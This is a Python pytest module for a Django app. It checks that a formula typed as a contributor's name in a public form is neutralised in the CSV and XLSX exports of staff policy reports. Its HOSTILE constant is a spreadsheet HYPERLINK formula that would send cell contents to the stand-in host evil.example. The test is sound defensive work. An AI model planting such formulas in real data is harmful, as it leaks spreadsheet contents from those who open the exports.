"""CSV formula injection through the policy reports' exports (A6.2: names come from the public form).

A contributor's name typed into the public contribution form reaches the reports' CSV exports; a
cell a spreadsheet would run as a formula gets a leading apostrophe (policy_rules.bounds.spreadsheet_safe,
the rule of the channel's activity export). The XLSX export already stores every text cell as text.
"""

import csv
import io

import openpyxl
import pytest

from tests.policy_rules.stored_outcomes import compute_outcomes
from tests.security.visitor import assert_no_server_error, contribution_form

pytestmark = [pytest.mark.django_db(transaction=True, serialized_rollback=True), pytest.mark.usefixtures("fresh_state")]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
# The reports that list people by the name they typed: students' points (A17), staff certificates (A18).
REPORTS = {"student": "/admin/policy-reports/points/", "staff": "/admin/policy-reports/staff/"}


@pytest.fixture(params=REPORTS)
def report(request, visitor, site_tree, people):
    """The report's path, once a contributor of its kind typed a formula as their name into the public form."""
    response = visitor.post("/contribute/", contribution_form(people, name=HOSTILE, kind=request.param))
    assert_no_server_error(response)
    assert response.status_code == 302, response.text[:500]
    compute_outcomes()  # the worker's task: the reports read the outcome it stores
    return REPORTS[request.param]


def test_the_csv_neutralises_a_formula_typed_as_a_name(signed_in, report):
    response = signed_in("policy").get(report + "?export=csv")

    assert_no_server_error(response)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert names == ["'" + HOSTILE]


def test_the_xlsx_keeps_the_name_as_text(signed_in, report):
    response = signed_in("policy").get(report + "?export=xlsx")

    assert_no_server_error(response)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(HOSTILE, "s")]
